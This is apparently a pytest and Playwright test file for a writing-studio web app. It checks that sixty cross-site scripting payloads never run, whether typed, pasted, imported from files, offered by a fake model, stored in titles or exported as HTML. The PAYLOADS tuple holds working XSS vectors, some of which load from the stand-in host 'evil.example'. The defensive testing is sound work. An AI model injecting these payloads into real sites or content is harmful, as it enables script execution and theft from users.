"""Nothing that is written is ever run: sixty scripts in disguise, typed, pasted, opened from files, offered by a model, shown in
every panel, and exported as a web page, in a real Chromium. What counts: a hook that ran, a dialog, a question to another host,
a page that went elsewhere, an element that the studio did not make.
"""

import html
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import docx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.fake_openai import fake_openai, says
from tests.running import launch, wait_until_up

AREA = "textarea.scene-text"
HOST = "evil.example"
# `ran(n)` is what each wants to have run.
PAYLOADS = tuple(
    text.replace("RAN", f"ran({n})").replace("HOST", f"{HOST}/{n}")
    for n, text in enumerate(
        (
            "<script>RAN</script>", "<SCRIPT>RAN</SCRIPT >", "<script src=//HOST></script>", "<script type=module>RAN</script>",
            "</textarea><script>RAN</script>", "</title><script>RAN</script>", "</style><script>RAN</script>", "--><script>RAN</script>",
            "]]><script>RAN</script>", "<scr<script>ipt>RAN</scr</script>ipt>", "<noscript><p title='</noscript><script>RAN</script>'>",
            "<img src=x onerror=RAN>", "<IMG SRC=x OnErRoR=RAN>", "<img src=x onerror='RAN'//", "<img/src/onerror=RAN>", "<img src=//HOST>",
            "<img srcset='//HOST 1x'>", "<image href=x onerror=RAN>", "<picture><source srcset=//HOST><img src=x onerror=RAN></picture>",
            "<svg/onload=RAN>", "<svg><script>RAN</script></svg>", "<svg><animate onbegin=RAN attributeName=x dur=1s>",
            "<svg><a xlink:href='javascript:RAN'><text y=9>go</text></a></svg>", "<svg><use href='//HOST#a'/></svg>",
            "<svg><style><img src=x onerror=RAN></style></svg>", "<math><mtext><mglyph><style><!--</style><img src=x onerror=RAN>",
            "<math href='javascript:RAN'>go</math>", "<iframe src='javascript:parent.RAN'></iframe>",
            "\"><iframe srcdoc='<script>parent.RAN</script>'></iframe>", "<iframe onload=RAN></iframe>", "<object data='javascript:RAN'></object>",
            "<object data=//HOST></object>", "<embed src='javascript:RAN'>", "<body onload=RAN>", "<body onpageshow=RAN>",
            "<input autofocus onfocus=RAN>", "<select autofocus onfocus=RAN>", "<textarea autofocus onfocus=RAN></textarea>",
            "<details open ontoggle=RAN>x</details>", "<video src=x onerror=RAN></video>", "<video><source onerror=RAN src=x></video>",
            "<audio src=//HOST onerror=RAN autoplay></audio>", "<marquee onstart=RAN>x</marquee>", "<a href='javascript:RAN'>go</a>",
            "<a href='java\tscript:RAN'>go</a>", "<a href='data:text/html,<script>opener.RAN</script>'>go</a>", "[go](javascript:RAN)",
            "![x](//HOST)", "![x](x\"onerror=\"RAN)", "<link rel=stylesheet href=//HOST>", "<style>@import '//HOST';</style>",
            "<p style='background:url(//HOST)'>x</p>", "<meta http-equiv=refresh content='0;url=javascript:RAN'>", "<base href=//HOST/>",
            "<form action='javascript:RAN'><button autofocus>go</button></form>", "<div onpointerenter=RAN style='position:fixed;inset:0'>x</div>",
            "{{constructor.constructor('RAN')()}}", "${RAN}", "<template><script>RAN</script></template>", "javascript:RAN//<b onclick=RAN>",
        )
    )
)  # fmt: skip
TEXT = "\n".join(PAYLOADS)
FAR = """
[far-writer]
title = {title}
medium = "text"
tasks = ["continue"]
runtime = "openai"
source = {{ kind = "server", where = "{where}" }}
licence = "see the server"
size = 0
memory = 0
options = {{ model = "tiny", dialect = "chat" }}
"""


class Watch:
    """Everything in this browser that should not have happened."""

    def __init__(self, context: BrowserContext) -> None:
        self.context = context
        self.seen: list[str] = []
        context.expose_function("ran", lambda n: self.seen.append(f"payload {n} was run: {PAYLOADS[int(n)]}"))
        context.on("request", lambda one: self._asked(one.url))
        context.on("page", self._page)

    def _page(self, page: Page) -> None:
        page.on("dialog", lambda one: (self.seen.append(f"a dialog: {one.message}"), one.dismiss()))

    def _asked(self, url: str) -> None:
        if HOST in url or url.startswith("http") and urlsplit(url).hostname != "127.0.0.1":
            self.seen.append(f"another host was asked: {url}")


@pytest.fixture(scope="module")
def watched(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Watch, Page]]:
    data = tmp_path_factory.mktemp("hostile")
    with fake_openai(*(says("\n".join((*PAYLOADS[at : at + 10], "So it went on."))) for at in range(0, 60, 10))) as fake:
        (data / "catalog.toml").write_text(FAR.format(where=fake.url, title=json.dumps("Far <img src=x onerror=ran(0)>")))
        running = launch(data, fakes=False)
        try:
            wait_until_up(running)
            context = browser.new_context(
                viewport={"width": 1440, "height": 900}, permissions=["clipboard-read", "clipboard-write"]
            )
            watch, page = Watch(context), context.new_page()
            page.set_default_timeout(15_000)
            page.goto(f"{running.url}/?tab=write")
            ready(page)
            yield watch, page
            context.close()
        finally:
            running.kill()


def ready(page: Page) -> None:
    page.wait_for_function(
        f"(a => a && !a.disabled && document.querySelector('.write-head .which').value)(document.querySelector('{AREA}'))"
    )


def untouched(watched: tuple[Watch, Page], where: str) -> None:
    watch, page = watched
    page.wait_for_timeout(150)  # what was let in would run by now
    assert not watch.seen, (where, watch.seen)
    assert urlsplit(page.url).query.startswith("tab=write"), page.url
    foreign = page.evaluate(
        """() => [...document.querySelectorAll('.gradio-container :is(iframe, object, embed, video, marquee, base, math, form[action], a[href^="java"], [style*="evil"], [srcset], [onload], [onerror], [onfocus], [ontoggle], [onbegin])')]
            .filter(one => one.closest('[data-part]')).map(one => one.outerHTML.slice(0, 90))"""
    )
    assert not foreign, (where, foreign)
    assert page.locator("[data-part] :is(script, img[src*=evil], img[src=x], image, link)").count() == 0, where


def scenes(page: Page) -> list[str]:
    found: list[str] = page.evaluate(
        """() => Studio.ask(`studio/writing/manuscripts/${document.querySelector('.write-head .which').value}`)
            .then(one => one.manuscript.chapters.flatMap(chapter => chapter.scenes.map(scene => scene.text)))"""
    )
    return found


def saved(page: Page) -> None:
    page.wait_for_timeout(30)
    expect(page.locator(".status-strip .saved")).to_contain_text("Saved at", timeout=10_000)


def test_typed_and_pasted(watched: tuple[Watch, Page]) -> None:
    page = watched[1]
    page.locator(AREA).click()
    page.keyboard.type(PAYLOADS[0] + PAYLOADS[11])
    page.keyboard.insert_text("\n" + TEXT)
    page.get_by_role("button", name="Who wrote what").click()
    saved(page)
    page.keyboard.press("Control+End")
    page.locator(AREA).click()
    page.keyboard.press("Control+End")
    page.evaluate(
        """([plain, marked]) => navigator.clipboard.write([new ClipboardItem({ 'text/plain': new Blob([plain], { type: 'text/plain' }), 'text/html': new Blob([marked], { type: 'text/html' }) })])""",
        ["\n" + TEXT, f"<b>{TEXT}</b>"],
    )
    page.keyboard.press("Control+v")
    expect(page.locator(".mirror .by-pasted").first).to_be_attached()
    saved(page)
    assert scenes(page)[0].count(TEXT) == 2
    untouched(watched, "typed and pasted")


def test_names_of_things(watched: tuple[Watch, Page]) -> None:
    """Titles, people, rules, plans and words that are looked for."""
    page = watched[1]
    page.evaluate(
        """async ([a, b, c]) => {
            const piece = document.querySelector('.write-head .which').value, { working, version: from, session } = await Studio.ask(`studio/writing/manuscripts/${piece}`);
            let version = from;
            const post = async (path, body) => { const done = await Studio.ask(`studio/writing/${path}`, { method: 'POST', body }); version = done.version ?? version; return done; };
            const put = (what, value) => post(`copies/${working}/put`, { version, what, value });
            await put('title', a); await put('author', b); await put('bans', [c + ' nowhere']);
            await put('bible', { entries: [a, b, c].map((name, i) => ({ id: `e${i}`, kind: ['person', 'place', 'rule'][i], name: name.slice(0, 120), text: name, aliases: [name.slice(0, 100)], facts: [{ text: name }], mode: 'always' })) });
            await put('scene', { id: 's1', title: b, beat: a, summary: c, goal: 100 });
            await post(`manuscripts/${piece}/rename`, { title: a });
            await post(`copies/${working}/edit`, { version, edits: [{ what: 'add-chapter', id: 'cx', at: -1 }, { what: 'add-scene', id: 'sx', to: 'cx' }, { what: 'rename', id: 'cx', title: c }] });
            await post(`copies/${working}/keep`, { summary: b });
        }""",
        [PAYLOADS[11], PAYLOADS[19], PAYLOADS[28]],
    )
    page.reload()
    ready(page)
    expect(page.locator(".write-tree .chapter").last).to_contain_text(PAYLOADS[28])
    page.evaluate("document.querySelectorAll('.write-side > .panel').forEach(panel => { panel.open = true; })")
    page.locator(".bible .entry").first.click()
    untouched(watched, "a dialog of the bible")
    page.keyboard.press("Escape")
    page.locator(".versions .entry").first.click()
    expect(page.locator("dialog[open]")).to_contain_text("Compared with")
    untouched(watched, "compared")
    page.keyboard.press("Escape")
    for name in ("Replay", "Statement"):
        page.get_by_role("button", name=name).click()
        untouched(watched, name)
        page.keyboard.press("Escape")
    page.locator(AREA).focus()
    page.keyboard.press("Control+f")
    page.get_by_role("searchbox", name="Find").fill(PAYLOADS[11])
    expect(page.locator(".write-find .state")).to_contain_text("1 of ")
    untouched(watched, "found")
    page.keyboard.press("Escape")


def test_offered_by_a_model(watched: tuple[Watch, Page]) -> None:
    page = watched[1]
    page.get_by_label("Model", exact=True).select_option("far-writer")
    page.locator(AREA).press("Control+End")
    page.locator(".chip", has_text="Continue").click()
    page.get_by_label("Length").select_option("500")
    page.get_by_label("How many", exact=True).select_option("6")
    page.locator(".asking .big.primary").click()
    expect(page.locator(".offer .take:visible")).to_have_count(6, timeout=30_000)
    offered = "\n".join(page.locator(".offer .text").all_inner_texts())
    missing = [one for one in PAYLOADS if " ".join(one.split()) not in " ".join(offered.split())]
    assert not missing, missing
    for why in page.locator(".why-offer > summary").all()[:2]:
        why.click()
    page.locator(".offer .edit").nth(1).click()
    page.locator(".offer .take").first.click()
    expect(page.locator(".offer .note").first).to_have_text("taken")
    assert any(scene.count(PAYLOADS[0]) > 2 or PAYLOADS[5] in scene for scene in scenes(page))
    untouched(watched, "offered")


def word_file() -> bytes:
    book, out = docx.Document(), io.BytesIO()
    book.add_heading(PAYLOADS[11], 1)
    for one in PAYLOADS:
        book.add_paragraph(one)
    book.core_properties.title, book.core_properties.author = PAYLOADS[0], PAYLOADS[19]
    book.save(out)
    return out.getvalue()


FILES: dict[str, bytes] = {
    "txt": TEXT.encode(),
    "md": f"# {PAYLOADS[11]}\n\n{TEXT.replace(chr(10), chr(10) * 2)}".encode(),
    "docx": word_file(),
    "html": f"<h1>{html.escape(PAYLOADS[11])}</h1>{''.join(f'<p>{html.escape(one)}</p>{one}' for one in PAYLOADS)}".encode(),
}


@pytest.mark.parametrize("ending", FILES)
def test_opened_from_a_file(watched: tuple[Watch, Page], ending: str) -> None:
    page = watched[1]
    before = page.locator(".write-head .which").first.input_value()
    name = f"<img src=x onerror=ran(0)>.{ending}"
    page.set_input_files(".write-head input[type=file]", {"name": name, "mimeType": "text/plain", "buffer": FILES[ending]})
    page.get_by_role("button", name="It is somebody else’s").click()
    page.wait_for_function("old => document.querySelector('.write-head .which').value !== old", arg=before)
    told = page.locator(".write-room > .told")
    expect(told).to_contain_text("is open")
    text = "\n".join(scenes(page))
    if ending in ("txt", "docx"):
        squeezed = " ".join(text.split())
        assert not [one for one in PAYLOADS if " ".join(one.split()) not in squeezed], "a text file says what it says"
    untouched(watched, name)


def test_exported_as_a_web_page(watched: tuple[Watch, Page], tmp_path: Path) -> None:
    """What leaves the studio must not run elsewhere either."""
    watch, page = watched
    where: dict[str, Any] = page.evaluate(
        """async () => { const box = document.querySelector('.write-head .which'), out = []; for (const one of box.options) if (one.value !== '+') out.push((await Studio.ask(`studio/writing/manuscripts/${one.value}`)).working); return out; }"""
    )
    assert len(where) == 5
    for k, working in enumerate(where):
        body = page.evaluate(
            "url => fetch(url).then(one => one.text())", f"studio/writing/copies/{working}/export/html?disclosure=plain"
        )
        assert "ran(" in body
        file = tmp_path / f"{k}.html"
        file.write_text(body, "utf-8")
        other = watch.context.new_page()
        other.goto(file.as_uri())
        other.wait_for_timeout(150)
        assert (
            other.locator("script, iframe, img, svg, object, embed, [onerror], [onload], a[href^=java], base, link").count() == 0
        )
        assert not watch.seen, (k, watch.seen)
        other.close()


def test_the_watch_sees_what_it_should(browser: Browser) -> None:
    """The same watch over a page that does let them in: else the others would prove nothing."""
    context = browser.new_context()
    watch, page = Watch(context), context.new_page()
    home = "http://127.0.0.1/"
    context.route(
        "**/*",
        lambda route: route.fulfill(body="<p>here", content_type="text/html") if route.request.url == home else route.abort(),
    )
    page.goto(home)
    page.evaluate(
        "all => { for (const one of all) document.body.appendChild(document.createElement('div')).innerHTML = one; }", PAYLOADS
    )
    page.wait_for_timeout(300)
    context.close()
    assert sum("was run" in one for one in watch.seen) >= 10
    assert sum("another host" in one for one in watch.seen) >= 5
